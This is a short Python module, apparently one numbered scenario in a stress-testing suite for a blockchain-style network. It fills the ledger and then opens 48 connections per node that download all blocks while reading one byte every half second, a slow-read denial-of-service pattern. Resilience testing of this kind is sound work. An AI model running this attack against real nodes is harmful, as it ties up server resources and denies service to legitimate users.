"""Downloads of all blocks that are read byte by byte."""

import asyncio
from contextlib import suppress

from network import NetworkSeen

from attacks.crowd import crowding, get
from attacks.flood import Attack, say_ready
from attacks.trading import fill_ledger

_CERTIFICATES = 2_000
_AT_ONCE = 48
_PAUSE_S = 0.5


async def _attack(network: NetworkSeen) -> None:
    await fill_ledger(network, _CERTIFICATES)
    say_ready()
    async with asyncio.TaskGroup() as tasks:
        for node in network.nodes:
            for _ in range(_AT_ONCE):
                tasks.create_task(_read(node.api))


async def _read(url: str) -> None:
    loop = asyncio.get_running_loop()
    while True:
        async with crowding(url, 1, get("/v1/blocks")) as crowd:
            with suppress(ConnectionError):
                while await loop.sock_recv(crowd.opened[0], 1):  # noqa: ASYNC110 (no event)
                    await asyncio.sleep(_PAUSE_S)
        await asyncio.sleep(_PAUSE_S)


ATTACK = Attack(
    number=3,
    summary=f"{_AT_ONCE} downloads of all blocks from each node, two bytes a second",
    run=_attack,
)
